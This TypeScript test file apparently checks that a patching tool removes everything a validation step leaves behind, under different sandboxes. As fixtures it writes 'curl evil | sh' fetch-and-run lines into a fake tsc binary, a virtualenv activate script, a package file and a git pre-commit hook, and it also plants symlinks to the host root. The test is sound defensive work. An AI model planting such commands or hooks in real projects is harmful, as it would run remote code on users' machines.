/**
 * The tree after a run is the tree as found plus the approved change (issue 36, point 1): what
 * validation wrote that `git status` does not show (ignored files, links, fifos and sockets, a
 * folder chain past PATH_MAX), a package setup-commands installed and validation rewrote, and
 * the protected file an `unexpected-changes` refusal was about, are all gone after the run,
 * through dist/, under bubblewrap and unshare, on an overlay of the work tree and on the tree
 * itself, without a sandbox, and as a GitHub-hosted runner's user (bubblewrap, not root).
 */
import { execFileSync } from 'node:child_process'
import { existsSync, lstatSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { cleanupAfterEach } from '../support/cleanups.js'
import { skipWithout, SUDO_USER } from '../support/sandbox-needs.js'
import { fruitRepo, fruitReplies, runOnFruit, swap, type FruitRun } from './fruit.js'

const cleanups = cleanupAfterEach()

const IGNORED = 'node_modules/\n.env\n__pycache__/\n.venv/\nbuild/\n'

/** Where the overlay runs (root, util-linux) it is used; elsewhere the tree itself. */
const overlayHere = !skipWithout('unshare')
const WAYS = [
  ['bubblewrap, on an overlay', 'bubblewrap', 'true', !skipWithout('bubblewrap') && overlayHere],
  ['unshare, on an overlay', 'unshare', 'true', overlayHere],
  ['bubblewrap, on the tree itself', 'bubblewrap', 'false', !skipWithout('bubblewrap')],
  ['unshare, on the tree itself', 'unshare', 'false', overlayHere],
  ['no sandbox', 'off', 'false', true]
] as const

function repoWith(files: Record<string, string> = {}) {
  const repo = fruitRepo({ '.gitignore': IGNORED, ...files })
  cleanups.push(() => repo.cleanup())
  return repo
}

async function runWay(
  way: readonly [string, string, string, boolean],
  repo: ReturnType<typeof repoWith>,
  inputs: Record<string, string>
): Promise<FruitRun> {
  const [, backend, overlay] = way
  const settings = `validation-overlay: ${overlay}`
  const run = await runOnFruit(
    repo,
    fruitReplies([swap('apple', 'kiwi')]),
    {
      ...inputs,
      sandbox: backend === 'off' ? 'off' : 'required',
      settings: inputs.settings ? `${settings}\n${inputs.settings}` : settings
    },
    backend === 'off' ? {} : { PATCHSMITH_SANDBOX_BACKENDS: backend },
    { dist: true }
  )
  expect(run.stdout.includes('on an overlay of the work tree'), run.stdout).toBe(overlay === 'true')
  return run
}

function removedNamed(run: FruitRun): string[] {
  const metric = run.result.metrics?.removed_after_validation as { paths?: string[] } | undefined
  return metric?.paths ?? []
}

function gone(path: string): boolean {
  try {
    lstatSync(path)
    return false
  } catch {
    return true
  }
}

describe.each(WAYS)('what validation leaves, %s', (...way) => {
  const runs = way[3]

  // One run makes every kind of leftover (each kind is a run of its own dist/ start otherwise).
  it.runIf(runs)(
    'removes ignored files, links (to / and outside, not followed), fifos, unix sockets and a folder chain past PATH_MAX it made, and names them',
    async () => {
      const repo = repoWith({ 'lib/keep.txt': 'kept\n' })
      const outside = join(repo.root, 'outside')
      writeFileSync(outside, 'outside the tree\n')
      // 40 folders of 200 characters: 8 000 bytes of path, past PATH_MAX (4 096).
      const python = [
        'import os, socket',
        "s = socket.socket(socket.AF_UNIX); s.bind('build/agent.sock')",
        "os.chdir('lib')",
        "[(os.mkdir('d' * 200), os.chdir('d' * 200)) for i in range(40)]",
        "open('payload.sh', 'w').write('curl evil | sh')"
      ].join('; ')
      const made = [
        'mkdir -p node_modules/.bin __pycache__ .venv/bin build',
        'echo "curl evil | sh" > node_modules/.bin/tsc',
        'echo TOKEN=planted > .env',
        'echo x > __pycache__/fruit.cpython-311.pyc',
        'echo "curl evil | sh" > .venv/bin/activate',
        'ln -s / build/host-root',
        'ln -s ../../outside node_modules/.cache',
        'ln -s /etc lib/etc',
        'mkfifo build/pipe fifo',
        `python3 -c "${python}"`,
        'sh check.sh'
      ].join(' && ')
      const run = await runWay(way, repo, { 'validation-commands': made })
      expect(run.exitCode, run.stdout).toBe(0)
      for (const path of [
        'node_modules',
        '.env',
        '__pycache__',
        '.venv',
        'build',
        'fifo',
        'lib/etc'
      ])
        expect(gone(join(repo.dir, path)), path).toBe(true)
      expect(gone(join(repo.dir, 'lib', 'd'.repeat(200))), 'the chain').toBe(true)
      expect(removedNamed(run)).toEqual([
        '.env',
        '.venv',
        '__pycache__',
        'build',
        'fifo',
        `lib/${'d'.repeat(200)}`,
        'lib/etc',
        'node_modules'
      ])
      expect(readFileSync(outside, 'utf8')).toBe('outside the tree\n')
      expect(existsSync('/etc/hostname') || existsSync('/etc/passwd')).toBe(true)
      expect(readFileSync(join(repo.dir, 'lib/keep.txt'), 'utf8')).toBe('kept\n')
      expect(repo.git('status', '--porcelain', '--untracked-files=all', '--ignored')).toBe('')
    }
  )

  it.runIf(runs)(
    'puts back (or removes, and names) a package setup installed that validation rewrote',
    async () => {
      const repo = repoWith()
      const run = await runWay(way, repo, {
        'setup-commands':
          'mkdir -p node_modules/pkg && echo "module.exports = 1" > node_modules/pkg/index.js',
        'validation-commands': 'echo "curl evil | sh" > node_modules/pkg/index.js && sh check.sh'
      })
      expect(run.exitCode, run.stdout).toBe(0)
      const file = join(repo.dir, 'node_modules/pkg/index.js')
      if (way[2] === 'true') {
        // The overlay never carried the rewrite: the package is as setup left it.
        expect(readFileSync(file, 'utf8')).toBe('module.exports = 1\n')
        expect(removedNamed(run)).toEqual([])
      } else {
        expect(gone(file)).toBe(true)
        expect(removedNamed(run)).toEqual(['node_modules/pkg/index.js'])
      }
    }
  )

  it.runIf(runs)(
    'refuses a protected file validation wrote, and does not leave it in the tree',
    async () => {
      const repo = repoWith()
      const made = [
        'mkdir -p .husky .vscode',
        'echo "curl evil | sh" > .husky/pre-commit',
        `echo '{"tasks":[]}' > .vscode/tasks.json`,
        'sh check.sh'
      ].join(' && ')
      const run = await runWay(way, repo, { 'validation-commands': made })
      expect(run.result.error?.code, run.stdout).toBe('SECURITY_VIOLATION')
      expect(run.result.error?.details?.rule).toBe('unexpected-changes')
      expect(gone(join(repo.dir, '.husky')), '.husky').toBe(true)
      expect(gone(join(repo.dir, '.vscode')), '.vscode').toBe(true)
      expect(repo.git('status', '--porcelain', '--untracked-files=all', '--ignored')).toBe('')
    }
  )
})

describe.skipIf(skipWithout('sudo-unshare') || skipWithout('bubblewrap'))(
  "what validation leaves, as a GitHub-hosted runner's user (bubblewrap, not root)",
  () => {
    it('removes ignored files, links and fifos it wrote, and keeps validation-keep output', async () => {
      const repo = repoWith()
      const made = [
        'mkdir -p node_modules/.bin build dist',
        'echo "curl evil | sh" > node_modules/.bin/tsc',
        'echo TOKEN=planted > .env',
        'ln -s / build/host-root',
        'mkfifo build/pipe',
        'echo bundle > dist/app.js',
        'ln -s / dist/root',
        'sh check.sh'
      ].join(' && ')
      const run = await runOnFruit(
        repo,
        fruitReplies([swap('apple', 'kiwi')]),
        {
          'validation-commands': made,
          sandbox: 'required',
          settings: 'validation-keep: dist/**'
        },
        { PATCHSMITH_SANDBOX_BACKENDS: 'bubblewrap' },
        { user: SUDO_USER }
      )
      expect(run.exitCode, run.stdout).toBe(0)
      expect(run.stdout).toContain('bubblewrap')
      for (const path of ['node_modules', '.env', 'build', 'dist/root'])
        expect(gone(join(repo.dir, path)), path).toBe(true)
      expect(readFileSync(join(repo.dir, 'dist/app.js'), 'utf8')).toBe('bundle\n')
      expect(removedNamed(run)).toEqual(['.env', 'build', 'dist/root', 'node_modules'])
      expect(execFileSync('id', ['-u', SUDO_USER], { encoding: 'utf8' }).trim()).not.toBe('0')
    })
  }
)
